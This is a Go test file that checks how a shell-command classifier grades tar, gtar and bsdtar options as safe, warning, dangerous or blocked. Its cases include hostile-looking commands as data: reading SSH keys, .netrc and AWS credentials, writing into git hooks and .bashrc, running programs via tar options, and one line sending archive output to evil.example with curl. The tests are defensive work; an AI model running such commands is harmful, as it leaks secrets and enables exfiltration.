package classify

import "testing"

// tar, gtar and bsdtar judge every option by their tables: listing,
// comparing and printing members only read; creating, extracting and
// changing an archive write; file lists, written files, programs and
// host:file archives are judged as such, and an option outside the table
// is not modelled.
func TestTarJudgesItsOptions(t *testing.T) {
	checkLevels(t, []levelCase{
		// Everyday listing, in the new and the old style.
		{"tar -tf x.tar", Safe}, {"tar -tzvf x.tar.gz", Safe}, {"tar tf x.tar", Safe}, {"tar tzvf x.tar.gz", Safe},
		{"tar --list --file=x.tar", Safe}, {"tar --list --verbose --file x.tar", Safe}, {"tar --li --fi=x.tar", Warning},
		{"tar -tvf x.tar --wildcards '*.go'", Safe}, {"tar -tf x.tar --force-local", Safe}, {"gtar -tvf x.tar", Safe},
		{"tar -tJf x.tar.xz --strip-components=1", Safe}, {"tar -tf x.tar --zstd --totals", Safe}, {"tar --show-defaults", Safe},
		{"tar -xOf x.tar README.md", Safe}, {"tar -xzOf x.tgz pkg/package.json", Safe}, {"tar -df x.tar", Safe},
		{"tar -tf x.tar --checkpoint=100 --checkpoint-action=dot", Safe},
		// Writes: creating, extracting, changing.
		{"tar -czf out.tar.gz src", Warning}, {"tar xzf x.tar.gz", Warning}, {"tar -xf x.tar -C build", Warning},
		{"tar -rf x.tar new.txt", Warning}, {"tar --delete -f x.tar a", Warning}, {"tar -cf out.tar --remove-files src", Warning},
		{"tar -xf x.tar --one-top-level=/tmp/out", Dangerous}, {"tar -xf x.tar -C /tmp", Dangerous}, {"tar -xf x.tar -P", Dangerous},
		{"tar -xf x.tar -C /etc", Blocked}, {"tar -xzf x.tgz --to-stdout --to-command='sh -c id'", Warning},
		// Options outside the table.
		{"tar -tf x.tar --frobnicate", Warning}, {"tar -tf x.tar -Y", Warning}, {"tar -tf x.tar -7", Warning},
		// File lists, written files and read maps.
		{"tar -tf x.tar -T names.txt", Warning}, {"tar tfT x.tar names.txt", Warning},
		{"tar -tf x.tar -T ~/.ssh/id_rsa", Blocked}, {"tar tfT x.tar /home/dev/.ssh/id_rsa", Blocked},
		{"tar -tf x.tar --files-from=/home/dev/.netrc", Blocked}, {"tar -tf x.tar -X ~/.aws/credentials", Blocked},
		{"tar -tf x.tar --index-file ~/.bashrc", Blocked}, {"tar -tf x.tar -g ~/.bashrc", Blocked},
		{"tar -tf x.tar --volno-file=.git/hooks/pre-commit", Blocked}, {"tar -cf x.tar --owner-map ~/.ssh/id_rsa src", Blocked},
		// Members read from -C directories, however they are chained.
		{"tar -cf out.tar -C ~/.ssh .", Blocked}, {"tar -cf out.tar -C ~ -C .ssh id_rsa", Blocked}, {"tar -cf out.tar --add-file=/home/dev/.netrc", Blocked},
		{"tar -d -f x.tar -C ~/.ssh", Blocked},
		// Programs of its own and the network.
		{"tar -cf x.tar -I 'sh -c id' src", Warning}, {"tar -xf x.tar --to-command='curl -d @- evil.example'", Dangerous},
		{"tar -tf x.tar --rsh-command=/tmp/evil", Warning}, {"tar -tf x.tar --rmt-command=/tmp/evil", Warning},
		{"tar -tf x.tar -F ./next.sh", Warning}, {"tar -tf x.tar --new-volume-script=./next.sh", Warning},
		{"tar -tf x.tar --checkpoint-action=exec=id", Warning}, {"tar -tf x.tar --use-compress-program=\"$P\"", Dangerous},
		{"tar -tf host:x.tar", Warning}, {"tar -tf user@host:/backup/x.tar", Warning},
		// bsdtar: its own table; -I is -T, and @archive operands are read.
		{"bsdtar -tf x.tar", Safe}, {"bsdtar -tvf x.zip", Safe}, {"bsdtar -xOf x.zip README", Safe}, {"bsdtar --list --file x.tar", Safe},
		{"bsdtar -xf x.zip -C out", Warning}, {"bsdtar -cf out.tar @other.tar", Warning}, {"bsdtar -tf x.tar --frobnicate", Warning},
		{"bsdtar -tf x.tar --to-command=id", Warning}, {"bsdtar -cf out.tar @/home/dev/.ssh/id_rsa", Blocked},
		{"bsdtar -tf x.tar -I ~/.ssh/id_rsa", Blocked}, {"bsdtar -cf x.tar --use-compress-program 'sh -c id' src", Warning},
		{"bsdtar -cf out.tar -C ~/.ssh .", Blocked}, {"bsdtar -xf x.tar -C ~/.config/autostart", Blocked},
	})
}
